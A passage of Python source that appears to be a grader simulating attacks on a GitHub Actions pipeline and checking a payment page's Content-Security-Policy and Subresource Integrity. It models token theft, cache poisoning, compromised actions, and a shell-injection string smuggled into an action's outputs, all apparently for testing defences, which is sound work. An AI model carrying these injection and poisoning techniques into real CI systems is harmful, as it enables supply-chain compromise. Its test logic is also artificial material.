            plain |= {
                "ACTIONS_ID_TOKEN_REQUEST_TOKEN": self.identity,
                "ACTIONS_ID_TOKEN_REQUEST_URL": "https://token.github.test",
            }
        if len(script) > 20000:
            raise Refused("A script has more than 20000 characters.")
        state.waiting.append((name, {
            "script": script, "shell": list(shell), "cwd": cwd or ".", "env": env, "plain": plain, "goes_on": goes_on,
        }))  # fmt: skip

    def flush(self, state):
        """Run what waits, and look whether the attacker's code was in it."""
        if not state.waiting:
            return
        waiting, state.waiting = state.waiting, []
        ends = ask(self.hub.box, {
            "do": "steps", "home": state.home, "files": state.pending, "path": state.path, "event": self.scene.event,
            "env": state.env, "steps": [each for _, each in waiting],
        }, self.hub.mark)["ends"]  # fmt: skip
        state.pending = []
        for (name, each), end in zip(waiting, ends, strict=False):
            state.env |= {key: value for key, value in end["env"] if not key.startswith("GITHUB_")}
            state.path = [*reversed(end["path"]), *state.path]
            self.run.log += end["log"]
            self.ended(state, name, end["code"] == 0, dict(end["output"]), each["goes_on"])
            if end["inbox"]:
                self.host(state, end["inbox"])
        if self.hub.has_run():
            self.hub.loot += state.held
            if self.scene.kind == "push":
                self.hub.evil_cache = True  # code in a run of main can fill main's cache

    def host(self, state, text):
        """Take a site, if its sender may: with the token, or with the identity of a run on main."""
        try:
            sent = json.loads(text)
            credential, files = sent["credential"], {str(name): str(each) for name, each in sent["files"].items()}
        except (ValueError, KeyError, TypeError, AttributeError):
            return
        is_ours = credential == self.identity and "id-token" in state.may and self.scene.ref == "refs/heads/main"
        if credential == self.hub.token or is_ours:
            self.hub.deployed.append(files)

    # uses:

    def used(self, state, step, env):
        name, ref = action(step["uses"])
        plain = PARTS.get(name, name)
        inputs = {
            key: filled(shown(value), state.known, state.status)
            for key, value in mapped(step.get("with"), "with").items()
        }
        pinned = re.fullmatch(r"[0-9a-f]{40}", ref)
        is_evil = plain in self.hub.rotten or (plain in self.hub.moved and (not pinned or ref != REVIEWED[plain]))
        good, outputs = getattr(self, plain.partition("/")[2].replace("-", "_"))(state, inputs, name)
        if is_evil:
            self.wait(state, "", self.hub.evil_action, env, True)
            self.flush(state)
            if plain == "farrier/changed-files":
                text = f'"; echo > {self.hub.beacon}; "$(echo > {self.hub.beacon})'
                outputs = dict.fromkeys(outputs, text)
        return good, outputs

    def checkout(self, state, inputs, name):
        scene, ref = self.scene, inputs.get("ref", "")
        repository = inputs.get("repository") or REPOSITORY
        if repository not in {REPOSITORY, FORK}:
            return False, {}
        pull = scene.event.get("pull_request", {})
        number_ = int(pull["number"]) if pull else 0
        theirs = (
            {scene.head, f"refs/pull/{number_}/head", f"refs/pull/{number_}/merge", "b" * 40} if scene.pull else set()
        )
        own_branch = scene.pull.branch if scene.pull else ""
        is_theirs = ref in theirs or (
            repository == FORK and ref in {*theirs, own_branch, f"refs/heads/{own_branch}", ""}
        )
        is_theirs = is_theirs or (not ref and repository == REPOSITORY and scene.kind == "pull_request")
        ours = {"", "main", "refs/heads/main", "a" * 40, scene.sha}
        if not is_theirs and ref not in ours:
            return False, {}
        is_privileged = scene.kind == "pull_request_target" or (scene.kind == "workflow_run" and scene.pull)
        if is_theirs and is_privileged and inputs.get("allow-unsafe-pr-checkout", "").lower() != "true":
            self.run.log += "checkout: refuses the code of a fork here\n"
            return False, {}
        files = scene.files_of_pull if is_theirs else self.hub.files
        place = inputs.get("path", "").strip("/")
        if ".." in place.split("/"):
            return False, {}
        state.pending += [[f"{place}/{path}" if place else path, text] for path, text in files.items()]
        if inputs.get("persist-credentials", "true").lower() != "false":
            where = f"{place}/.git/config" if place else ".git/config"
            state.pending.append([where, f"[http]\n\textraheader = AUTHORIZATION: {self.token}\n"])
        return True, {"ref": ref, "commit": scene.sha}

    def cache(self, state, inputs, name):
        is_main = self.scene.ref == "refs/heads/main"
        if name.endswith("/save") or not (self.hub.evil_cache and is_main):
            return True, {"cache-hit": "false", "cache-matched-key": ""}
        for place in filter(None, map(str.strip, inputs.get("path", "").split("\n"))):
            place = place.removeprefix("./").rstrip("/*") or "."
            names = [place] if place.endswith((".py", ".html")) else [
                f"{place}/{each}" for each in ("minify.py", "get_tools.py", "build.py", "deploy.py", "test_site.py")
            ]  # fmt: skip
            if not place.startswith(("~", "/")):
                state.pending += [
                    [each, f"<!-- {self.hub.word} -->" if each.endswith(".html") else self.hub.evil_python]
                    for each in names
                ]
        return True, {"cache-hit": "true", "cache-matched-key": inputs.get("key", "")}

    def upload_artifact(self, state, inputs, name):
        patterns = [each.strip() for each in inputs.get("path", "").split("\n") if each.strip()]
        if not patterns:
            return False, {}
        order = {"do": "collect", "home": state.home, "files": state.pending, "patterns": patterns}
        files = {str(path): str(text) for path, text in ask(self.hub.box, order, self.hub.mark).items()}
        state.pending = []
        self.run.artifacts[inputs.get("name") or "artifact"] = files
        return True, {"artifact-id": "12"}

    def download_artifact(self, state, inputs, name):
        is_other = bool(inputs.get("run-id"))
        run = self.scene.after if is_other else self.run
        if run is None or (is_other and not (inputs.get("github-token") and inputs["run-id"] == "4711")):
            return False, {}
        wanted = inputs.get("name", "")
        found = {wanted: run.artifacts.get(wanted)} if wanted else run.artifacts
        place = inputs.get("path", "").removeprefix("./").strip("/") or "."
        if ".." in place.split("/"):
            return False, {}
        for each, files in found.items():
            if files is None:
                return False, {}
            if is_other and self.scene.pull and self.hub.changed_artifact:
                files = self.hub.changed_artifact(dict(files))
            folder = place if wanted or len(found) == 1 else f"{place}/{each}"
            state.pending += [[f"{folder}/{path}", text] for path, text in files.items()]
        return True, {"download-path": place}

    def changed_files(self, state, inputs, name):
        files = self.scene.changed
        return True, {
            "files": " ".join(files), "any_changed": "true" if files else "false", "count": str(len(files)),
        }  # fmt: skip


@dataclass
class Job:
    """A job that is running."""

    home: str
    may: frozenset
    known: dict
    held: list
    env: dict = field(default_factory=dict)
    path: list = field(default_factory=list)
    pending: list = field(default_factory=list)
    waiting: list = field(default_factory=list)
    good: bool = True

    def status(self, word):
        return {"success": self.good, "failure": not self.good, "always": True, "cancelled": False}[word]


# --------------------------------------------------------------------------- for tests and attacks

PLAIN = {"prices.json": '{\n    "adult": "15.00",\n    "child": "7.50"\n}\n'}


def answered(play):
    """Let an attack play; a workflow that GitHub does not take runs nothing."""
    try:
        return play()
    except Refused as error:
        return happened(False, "", f"Nothing has run. {error}")


def taken(hub):
    """Say what the attacker has got by now."""
    loot = list(dict.fromkeys(hub.loot))
    if any(hub.word in text for files in hub.deployed for text in files.values()):
        loot.append("a page of the attacker's making is deployed")
    return happened(bool(loot), f"The attacker has {'; '.join(loot)}.", "The attacker has nothing of worth.")


def first_landed(outcomes):
    outcome = None
    for outcome in outcomes:
        if isinstance(outcome, Landed):
            return outcome
    return outcome


# --------------------------------------------------------------------------- the page, as a browser reads it

OWN = "https://tickets.brackenfell.test"
PAGE = f"{OWN}/pay.html"
CDN = "https://cdn.cardform.test"
BRANDS = "https://api.cardform.test/brand/411111"
SCRIPT_TYPES = {"", "module", "text/javascript", "application/javascript", "text/ecmascript", "application/ecmascript"}
PORTS = {"http": 80, "https": 443, "ws": 80, "wss": 443}
FALLBACK = {
    "script-src-elem": ("script-src-elem", "script-src", "default-src"),
    "style-src-elem": ("style-src-elem", "style-src", "default-src"),
    "frame-src": ("frame-src", "child-src", "default-src"),
    "form-action": ("form-action",),
    "base-uri": ("base-uri",),
}
HASH = re.compile(r"'(sha256|sha384|sha512)-([A-Za-z0-9+/_-]+={0,2})'", re.IGNORECASE)


def digest(name, content):
    return base64.b64encode(new(name.lower(), content).digest()).decode()


def same_digest(given, name, content):
    return given.replace("-", "+").replace("_", "/").rstrip("=") == digest(name, content).rstrip("=")


class Policy:
    """One Content-Security-Policy."""

    def __init__(self, text):
        self.rules = {}
        for part in text.split(";"):
            words = part.split()
            if words and words[0].lower() not in self.rules:
                self.rules[words[0].lower()] = words[1:]

    def sources(self, directive):
        for name in FALLBACK.get(directive, (directive, "default-src")):
            if name in self.rules:
                return self.rules[name]
        return None

    def allows(self, directive, url):
        sources = self.sources(directive)
        if directive == "style-src-elem" and any(source.lower().startswith("'nonce-") for source in sources or []):
            return True  # a running script can read the page's nonce
        return sources is None or any(fits_source(source, url) for source in sources)

    def allows_prefetch(self, url):
        """Tell whether a page may be fetched in advance: without default-src always, else if any directive allows it."""
        return "default-src" not in self.rules or any(self.allows(name, url) for name in self.rules if "-src" in name)

    def allows_script(self, url, content, nonce, integrity, is_inline=False, is_made_by_script=False):
        """Tell whether a script may run: one of the page, or one that a running script has added."""
        sources = self.sources("script-src-elem")
        if sources is None:
            return True
        lower = [source.lower() for source in sources]
        nonces = {source[7:-1] for source in sources if source.lower().startswith("'nonce-")}
        hashes = [found.groups() for source in sources if (found := HASH.fullmatch(source))]
        is_dynamic = "'strict-dynamic'" in lower
        if is_made_by_script and (is_dynamic or nonces or hashes):
            return (
                True  # a running script can read the page's nonce, and name a listed hash: only the answer is compared
            )
        if nonce and nonce in nonces:
            return True
        if is_inline:
            if any(same_digest(given, name, content) for name, given in hashes):
                return True
            return "'unsafe-inline'" in lower and not nonces and not hashes and not is_dynamic
        known = [match for word in (integrity or "").split() if (match := HASH.fullmatch(f"'{word.split('?')[0]}'"))]
        if known and hashes:
            listed_ = {(name.lower(), given.rstrip("=")) for name, given in hashes}
            if all((match[1].lower(), match[2].rstrip("=")) in listed_ for match in known):
                return True
        return not is_dynamic and any(fits_source(source, url) for source in sources)


def fits_source(source, url):
    """Tell whether one source of a policy fits an address, as CSP Level 3 says."""
    to, source = urlsplit(url), source.strip()
    scheme, host = to.scheme, to.hostname or ""
    port = to.port or PORTS.get(scheme)
    low = source.lower()
    if low == "*":
        return scheme in PORTS
    if low == "'self'":
        return host == urlsplit(OWN).hostname and scheme in {"https", "wss"} and port == 443
    if low.startswith("'"):
        return False
    if re.fullmatch(r"[a-z][a-z0-9+.-]*:", low):
        return fits_scheme(low[:-1], scheme)
    found = re.fullmatch(
        r"(?:([a-z][a-z0-9+.-]*)://)?(\*|(?:\*\.)?[a-z0-9.-]+)(?::(\*|\d+))?(/[^?#]*)?", source, re.IGNORECASE
    )
    if found is None:
        return False
    asked, name, gate, path = found.groups()
    if not fits_scheme((asked or "https").lower(), scheme):
        return False
    name = name.lower()
    is_host = name == "*" or (host.endswith(name[1:]) if name.startswith("*.") else host == name)
    is_port = gate == "*" or (int(gate) == port if gate else port == PORTS.get(scheme))
    is_path = path in {None, "/"} or (to.path.startswith(path) if path.endswith("/") else to.path == path)
    return is_host and is_port and is_path


def fits_scheme(asked, scheme):
    return asked == scheme or scheme in {"http": {"https"}, "ws": {"wss", "http", "https"}, "wss": {"https"}}.get(
        asked, ()
    )


def passes_integrity(attribute, content, is_readable):
    """Tell whether a file passes Subresource Integrity: only the strongest hashes count, unknown ones do not."""
    found = []
    for word in (attribute or "").split():
        match = re.fullmatch(r"(sha256|sha384|sha512)-([A-Za-z0-9+/_-]+={0,2})(\?.*)?", word, re.IGNORECASE)
        if match:
            found.append((match[1].lower(), match[2]))
    if not found:
        return True
    best = max(name for name, _ in found)
    return is_readable and any(same_digest(given, name, content) for name, given in found if name == best)


class Browser:
    """Opens the page that build.py has made."""

    def __init__(self, box):
        ran = box.run("build.py")
        self.built = ran.code == 0
        self.why = ran.err.decode(errors="replace")[-600:]
        self.box = box
        self.reviewed = box.read("reviewed/cardform-2.4.1.js") or b""
        page = box.read("dist/pay.html") if self.built else None
        self.text = page.decode("utf-8", "replace") if page else ""
        self.page = read_page(self.text)
        headers = (box.read("dist/headers.txt") or b"").decode("utf-8", "replace")
        self.policies = []
        for line in headers.splitlines():
            name, _, value = line.partition(":")
            if name.strip().lower() == "content-security-policy":
                self.policies += [Policy(part) for part in value.split(",")]
        self.others = None  # what the servers of others answer; None: what they answered on the day of the review
        heads = [each for each in self.page.elements if each.name == "head"]
        inside = {id(each) for head in heads for each in self.page.inside(head)}
        self.metas = [
            (place, Policy(each.attributes.get("content", "")))
            for place, each in enumerate(self.page.elements)
            if each.name == "meta" and id(each) in inside
            and each.attributes.get("http-equiv", "").lower() == "content-security-policy"
        ]  # fmt: skip
        bases = [each.attributes["href"] for each in self.page.named("base") if "href" in each.attributes]
        self.base = urljoin(PAGE, bases[0]) if bases else PAGE

    def at(self, place):
        """Return the policies that hold for an element: those of the header, and those of metas before it."""
        return [*self.policies, *(policy for where, policy in self.metas if where < place)]

    def fetch(self, url):
        """Return what a server answers, and whether every site may read it; None if there is nothing."""
        to = urlsplit(url)
        if f"{to.scheme}://{to.netloc}" == OWN:
            content = (
                self.box.read("dist" + to.path)
                if re.fullmatch(r"(/[\w@.-]+)+", to.path) and ".." not in to.path
                else None
            )
            return None if content is None else (content, True)
        if to.scheme != "https":
            return None
        if self.others is not None:
            return self.others, True
        if f"{to.scheme}://{to.netloc}" == CDN and to.path == "/2.4.1/cardform.js":
            return self.reviewed, True
        if f"{to.scheme}://{to.netloc}" == CDN and to.path == "/latest/cardform.js":
            return self.reviewed.replace(b"2.4.1", b"2.5.0") + b"// faster\n", True
        return b"// another script\n", False

    def scripts(self):
        """List the scripts that run: address (empty within the page) and content."""
        found = []
        for place, each in enumerate(self.page.elements):
            kind = each.attributes.get("type", "").strip().lower()
            if each.name != "script" or each.namespace != "html" or kind not in SCRIPT_TYPES or not each.is_closed:
                continue
            nonce, integrity = each.attributes.get("nonce"), each.attributes.get("integrity")
            if kind != "module" and "nomodule" in each.attributes:
                continue
            source = each.attributes.get("src")
            if source is None:
                content = each.raw.encode()
                if content.strip() and all(
                    policy.allows_script("", content, nonce, None, is_inline=True) for policy in self.at(place)
                ):
                    found.append(("", content))
                continue
            url = urljoin(self.base, source.strip())
            answer = self.fetch(url) if source.strip() else None
            if answer is None or not all(policy.allows_script(url, b"", nonce, integrity) for policy in self.at(place)):
                continue
            content, is_shared = answer
            is_own = url.startswith(OWN + "/")
            cors = each.attributes.get("crossorigin")
            asks = kind == "module" or cors is not None
            is_readable = is_own or (asks and is_shared and (cors or "").strip().lower() != "use-credentials")
            if asks and not is_readable:
                continue
            if passes_integrity(integrity, content, is_readable):
                found.append((url, content))
        return found

    def runs_cardform(self):
        """Whether the reviewed script runs, from whatever place."""
        return any(content.strip() == self.reviewed.strip() for _, content in self.scripts())

    def lets_out(self, directive, url):
        """Whether a script of the page may reach an address in this way, without leaving the page."""
        policies = self.at(len(self.page.elements))
        if directive == "prefetch":
            return all(policy.allows_prefetch(url) for policy in policies)
        if directive == "script-src-elem":
            return all(policy.allows_script(url, b"", None, None, is_made_by_script=True) for policy in policies)
        return all(policy.allows(directive, url) for policy in policies)

    def loads(self, directive, url):
        return self.lets_out(directive, urljoin(self.base, url))
